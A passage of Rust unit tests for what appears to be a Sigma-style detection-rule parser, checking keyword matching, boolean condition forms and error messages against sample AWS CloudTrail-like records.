
    #[test]
    fn keywords_search_the_raw_record() {
        let r = rec(
            r#""eventSource":"s3.amazonaws.com","eventName":"GetObject","userAgent":"[Boto3/1.28 md/Botocore#1.31 ua/2.0 os/linux]""#,
        );
        let det = detection("keywords: ['botocore', 'nope']\ncondition: keywords").unwrap();
        assert!(check(&det, &r));
        let det = detection("keywords: ['nope', 'never']\ncondition: keywords").unwrap();
        assert!(!check(&det, &r));
        let det = detection("keywords: 'GETOBJECT'\ncondition: keywords").unwrap();
        assert!(check(&det, &r));
        // Keywords with modifiers: a map with an empty field name.
        let det =
            detection("keywords:\n  '|all':\n    - botocore\n    - linux\ncondition: keywords")
                .unwrap();
        assert!(check(&det, &r));
        let det =
            detection("keywords:\n  '|all':\n    - botocore\n    - windows\ncondition: keywords")
                .unwrap();
        assert!(!check(&det, &r));
    }

    #[test]
    fn list_of_maps_is_or_and_map_is_and() {
        let det = detection(
            "filter:\n  - eventSource: ssm.amazonaws.com\n  - sourceIPAddress: AWS Internal\ncondition: filter",
        )
        .unwrap();
        assert!(check(
            &det,
            &rec(r#""eventSource":"ssm.amazonaws.com","eventName":"X""#)
        ));
        assert!(check(
            &det,
            &rec(
                r#""eventSource":"s3.amazonaws.com","eventName":"X","sourceIPAddress":"AWS Internal""#
            )
        ));
        assert!(!check(
            &det,
            &rec(r#""eventSource":"s3.amazonaws.com","eventName":"X","sourceIPAddress":"1.2.3.4""#)
        ));
        let det = detection("sel: {eventSource: ssm.amazonaws.com, eventName: X}\ncondition: sel")
            .unwrap();
        assert!(!check(
            &det,
            &rec(r#""eventSource":"ssm.amazonaws.com","eventName":"Y""#)
        ));
    }

    #[test]
    fn condition_forms_evaluate() {
        let yaml = "sel_a: {eventName: A}\nsel_b: {awsRegion: us-east-1}\nfilter_x: {userAgent: bot}\nfilter_y: {sourceIPAddress: 1.1.1.1}\n";
        let a_east = rec(r#""eventSource":"s","eventName":"A","userAgent":"bot""#);
        let cases = [
            ("all of sel_*", true),
            ("1 of filter_*", true),
            ("all of filter_*", false),
            ("all of them", false),
            ("1 of them", true),
            ("sel_a and not (filter_x or filter_y)", false),
            ("sel_a and not filter_y", true),
            ("not sel_a or sel_b", true),
            ("not (sel_a and sel_b)", false),
        ];
        for (cond, want) in cases {
            let det = detection(&format!("{yaml}condition: {cond}")).unwrap();
            assert_eq!(check(&det, &a_east), want, "{cond}");
        }
        // A list of conditions means any of them.
        let det = detection(&format!("{yaml}condition: ['filter_y', 'sel_a']")).unwrap();
        assert!(check(&det, &a_east));
    }

    #[test]
    fn malformed_detections_give_clear_errors() {
        let cases = [
            ("sel: {eventName: A}", "no `condition`"),
            ("condition: sel", "no selections"),
            (
                "sel: {eventName|contians: A}\ncondition: sel",
                "selection `sel`: field `eventName`: unknown modifier `contians`",
            ),
            ("sel: {eventName: []}\ncondition: sel", "empty value list"),
            (
                "sel: {eventName: {a: b}}\ncondition: sel",
                "values must be scalars",
            ),
            ("sel: [{a: b}, c]\ncondition: sel", "mixing maps"),
            (
                "sel: {eventName|contains: null}\ncondition: sel",
                "`null` only works",
            ),
            ("sel: {a: 1}\ncondition: sel\ntimeframe: 5m", "timeframe"),
            ("sel: {a: 1}\ncondition: 5", "must be a string"),
            ("sel: {}\ncondition: sel", "empty map"),
        ];
        for (yaml, expected) in cases {
            let err = detection(yaml).unwrap_err().to_string();
            assert!(err.contains(expected), "`{yaml}` gave `{err}`");
        }
    }
}
